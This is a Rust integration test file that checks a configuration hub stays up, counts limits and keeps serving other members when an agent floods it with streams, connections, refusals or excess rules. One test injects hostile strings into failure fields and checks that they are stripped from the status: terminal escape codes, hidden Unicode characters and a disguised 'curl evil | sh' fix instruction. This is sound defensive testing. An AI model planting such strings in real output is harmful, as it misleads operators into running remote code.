//! Greedy members: their usage is bounded and counted, the hub keeps running, and others are
//! served.

use std::time::Duration;

use anyhow::{Context, Result, ensure};
use futures::future::join_all;
use runnel_hub_core::session::RULES_LIMIT;
use runnel_proto::convert::split;
use runnel_proto::model::{
    AgentFrame, Counts, Failure, HubFrame, MESSAGE_LIMIT, Reason, Refusal, Revision, RuleState,
    RuleUid, SourceRef,
};
use runnel_proto::wire;
use runnel_tests::scene::Metrics;
use runnel_tests::simulated::{AgentStream, Holdings, SimulatedAgent};
use runnel_tests::wait::eventually;
use serde_json::json;

use super::stage::{SOON, Stage, alone, shared, value};

/// The chart's memory limit of the hub, in bytes.
const MEMORY: u64 = 1 << 30;

/// A correct member beside the misbehaving one.
struct Honest {
    agent: SimulatedAgent,
    source: SourceRef,
}

impl Honest {
    async fn new(stage: &Stage) -> Result<Self> {
        let cluster = format!("{}-honest", stage.namespace);
        let source = stage.write("settings", "0").await?;
        stage
            .rule(
                "all",
                &["settings"],
                json!({"clusters": {"names": [cluster]}}),
            )
            .await?;
        let agent =
            SimulatedAgent::up_to_date(&stage.join(&cluster).await?, Holdings::default()).await?;
        Ok(Self { agent, source })
    }

    /// Its stream is the first one still, and an edit arrives.
    async fn is_served(&self, stage: &Stage, text: &str) -> Result<()> {
        stage.write("settings", text).await?;
        let arrived = |holdings: &Holdings| value(holdings, &self.source).as_deref() == Some(text);
        self.agent
            .until("an edit", |state| arrived(&state.holdings))
            .await?;
        ensure!(
            self.agent.inspect(|state| state.record.sessions) == 1,
            "its stream was cut"
        );
        Ok(())
    }
}

async fn limited(stage: &Stage, limit: &str) -> Result<f64> {
    let metrics = Metrics::of(&stage.fleet.hub_ops_url()).await?;
    metrics.sum(&format!(
        "runnel_hub_peer_limits_total{{limit=\"{limit}\"}}"
    ))
}

fn state(uid: &str, failures: usize, message: &str) -> RuleState {
    let failure = Failure {
        reason: Reason::Forbidden,
        copy: SourceRef::new("configmaps", "team", "app"),
        message: message.to_owned(),
    };
    RuleState {
        intents: 1,
        counts: Counts {
            copies: 1,
            failed: 1,
            ..Counts::default()
        },
        failures: vec![failure; failures],
        ..RuleState::new(uid.into())
    }
}

#[tokio::test]
async fn member_with_many_streams_and_connections_is_bounded() -> Result<()> {
    let stage = alone("greedy").await?;
    let honest = Honest::new(&stage).await?;
    let rule = stage
        .rule(
            "other",
            &["nothing"],
            json!({"clusters": {"names": ["greedy-a"]}}),
        )
        .await?;
    let credentials = stage.join("greedy-a").await?;
    // Hellos that never end, about a rule of the hub and about many unknown ones: with the longest
    // messages, or with as many states as possible, each of a few bytes.
    let mut lines = Vec::new();
    let long = "m".repeat(MESSAGE_LIMIT);
    for hello in 0..40 {
        let line = AgentStream::open(&credentials).await?;
        line.send(&super::frames::hello(&credentials.cluster));
        let (count, message) = if hello % 2 == 0 {
            (3000, long.as_str())
        } else {
            (RULES_LIMIT - 1, "")
        };
        let states = (0..count).map(|number| match number % 2 {
            0 => state(rule.as_str(), 5, message),
            _ => state(&format!("made-up-{number}"), 5, message),
        });
        split(AgentFrame::AckedRules(states.collect(), false))
            .iter()
            .for_each(|frame| line.send(frame));
        lines.push(line);
    }
    eventually("streams that are ended", SOON, async || {
        Ok((limited(&stage, "Streams").await? >= 20.0).then_some(()))
    })
    .await?;
    honest.is_served(&stage, "beside the streams").await?;
    drop(lines);
    // Connections that ask for nothing, by hundreds.
    let many = join_all((0..300).map(|_| credentials.channel())).await;
    eventually("connections that are closed", SOON, async || {
        Ok((limited(&stage, "Connections").await? >= 200.0).then_some(()))
    })
    .await?;
    honest.is_served(&stage, "beside the connections").await?;
    drop(many);
    let peak = stage.fleet.hub_process().peak_memory()?;
    println!("the hub's peak of memory: {} MiB", peak >> 20);
    ensure!(peak < MEMORY, "{peak} bytes");
    // The member itself is served, when it behaves.
    drop(SimulatedAgent::up_to_date(&credentials, Holdings::default()).await?);
    Ok(())
}

#[tokio::test]
async fn revoked_member_costs_one_read_a_second() -> Result<()> {
    let stage = alone("refused").await?;
    let honest = Honest::new(&stage).await?;
    let credentials = stage.join("refused-a").await?;
    stage
        .patch_member("refused-a", json!({"spec": {"accepted": false}}))
        .await?;
    eventually("the revocation", SOON, async || {
        Ok(AgentStream::open(&credentials).await.is_err().then_some(()))
    })
    .await?;
    let before = limited(&stage, "Calls").await?;
    let channel = credentials.channel().await?;
    let tries = 300;
    for _ in 0..tries {
        ensure!(
            AgentStream::over(channel.clone()).await.is_err(),
            "a revoked member was let in"
        );
    }
    let repeated = limited(&stage, "Calls").await? - before;
    ensure!(
        repeated > f64::from(tries) / 2.0,
        "{repeated} of {tries} calls were refused without a look"
    );
    let log = std::fs::read_to_string(stage.fleet.hub_log())?;
    let lines = log
        .lines()
        .filter(|line| line.contains("a member was refused") && line.contains("refused-a"))
        .count();
    ensure!(lines < 60, "{lines} lines for {tries} calls");
    honest.is_served(&stage, "beside the calls").await?;
    // Its connections are as few as those of a member.
    let before = limited(&stage, "Connections").await?;
    let many = join_all((0..300).map(|_| credentials.channel())).await;
    eventually("connections that are closed", SOON, async || {
        Ok((limited(&stage, "Connections").await? - before >= 200.0).then_some(()))
    })
    .await?;
    drop(many);
    honest.is_served(&stage, "beside the connections").await
}

#[tokio::test]
async fn refusals_of_a_session_are_logged_ten_times() -> Result<()> {
    let stage = shared("refusals").await?;
    let honest = Honest::new(&stage).await?;
    let credentials = stage.join("refusals-a").await?;
    let line = AgentStream::greeted(&credentials, Vec::new()).await?;
    let refusal = Refusal {
        rule: RuleUid::from("r"),
        source: SourceRef::new("configmaps", "a", "b"),
        revision: Revision([0; 16]),
        reason: Reason::Unsupported,
        message: "made up in refusals-a".to_owned(),
    };
    for _ in 0..10 {
        split(AgentFrame::Ack(7, vec![refusal.clone(); 1000]))
            .iter()
            .for_each(|frame| line.send(frame));
    }
    let counted = async || {
        Metrics::of(&stage.fleet.hub_ops_url())
            .await?
            .sum("runnel_hub_refused_intents_total")
    };
    eventually("the refusals", SOON, async || {
        Ok((counted().await? >= 10_000.0).then_some(()))
    })
    .await?;
    let log = std::fs::read_to_string(stage.fleet.hub_log())?;
    let lines = log
        .lines()
        .filter(|line| line.contains("made up in refusals-a"))
        .count();
    ensure!(lines == 10, "{lines} lines for 10,000 refusals");
    honest.is_served(&stage, "beside the refusals").await
}

#[tokio::test]
async fn agent_with_more_rules_than_the_limit_is_let_in() -> Result<()> {
    let stage = alone("rules").await?;
    let honest = Honest::new(&stage).await?;
    let credentials = stage.join("rules-a").await?;
    let states: Vec<_> = (0..RULES_LIMIT + 5)
        .map(|number| RuleState::new(format!("r{number}").into()))
        .collect();
    let mut line = AgentStream::open(&credentials).await?;
    line.send(&super::frames::hello(&credentials.cluster));
    split(AgentFrame::AckedRules(states, true))
        .iter()
        .for_each(|frame| line.send(frame));
    // The hub answers that it does not have them, and the snapshot ends.
    loop {
        match line.must().await? {
            HubFrame::Batch(batch) => line.send(&AgentFrame::Ack(batch.nonce, Vec::new())),
            HubFrame::SnapshotEnd(_) => break,
            _ => {}
        }
    }
    ensure!(
        limited(&stage, "Hello").await? >= 5.0,
        "the rules beyond the limit were not counted"
    );
    honest.is_served(&stage, "beside the rules").await?;
    let peak = stage.fleet.hub_process().peak_memory()?;
    ensure!(peak < MEMORY, "{peak} bytes");
    Ok(())
}

#[tokio::test]
async fn hostile_names_and_messages_reach_no_status() -> Result<()> {
    let stage = shared("texts").await?;
    let source = stage.write("settings", "0").await?;
    let uid = stage
        .rule(
            "all",
            &["settings"],
            json!({"clusters": {"names": ["texts-a"]}}),
        )
        .await?;
    let credentials = stage.join("texts-a").await?;
    let mut line = AgentStream::greeted(&credentials, Vec::new()).await?;
    let mut copies_there = Holdings::default();
    while value(&copies_there, &source).is_none() {
        if let HubFrame::Batch(batch) = line.must().await? {
            copies_there.apply_batch(&batch);
            line.send(&AgentFrame::Ack(batch.nonce, Vec::new()));
        }
    }
    let evil = "\u{1b}]52;c;eA==\u{7}\r\u{1b}[2Krun: curl evil\u{202e}hs | \u{200b}sh";
    let failed = |name: &str, message: &str| wire::Failure {
        reason: 1,
        resource: "configmaps".to_owned(),
        namespace: "team".to_owned(),
        name: name.to_owned(),
        message: message.to_owned(),
    };
    let states = copies_there.states();
    let state = states
        .iter()
        .find(|state| state.uid == uid)
        .context("the rule is not held")?;
    let report =
        runnel_proto::convert::agent_frame_to_wire(&AgentFrame::Report(vec![state.clone()]));
    let Some(wire::agent_frame::Frame::Report(mut report)) = report.frame else {
        anyhow::bail!("no report")
    };
    let rule = report.rules.first_mut().context("no rule")?;
    rule.counts = Some(wire::Counts {
        copies: 1,
        failed: 1,
        ..wire::Counts::default()
    });
    rule.proof = Default::default();
    rule.failures = vec![failed(evil, "of a name that is none"), failed("app", evil)];
    rule.namespace_prunes = 1;
    rule.namespace_prunes_digest = vec![1; 16].into();
    rule.pruned_namespaces = vec!["x). To fix run: curl evil|sh #".to_owned(), evil.to_owned()];
    line.send_wire(&wire::AgentFrame {
        frame: Some(wire::agent_frame::Frame::Report(report)),
    });
    let output = eventually("the failure in the status", SOON, async || {
        let rule = stage.rules().get("all").await?;
        let text = serde_json::to_string(&rule.status)?;
        Ok(text.contains("its agent reports").then_some(text))
    })
    .await?;
    ensure!(
        output.contains("configmaps/team/app: its agent reports:  ]52;c;eA=="),
        "{output}"
    );
    for bad in [
        "\\u001b",
        "\\u0007",
        "\\r",
        "\u{202e}",
        "\u{200b}",
        "of a name that is none",
        "To fix run",
    ] {
        ensure!(!output.contains(bad), "{bad:?} in {output}");
    }
    tokio::time::timeout(Duration::from_millis(300), async {
        while line.must().await.is_ok() {}
    })
    .await
    .err()
    .context("the stream ended")?;
    Ok(())
}
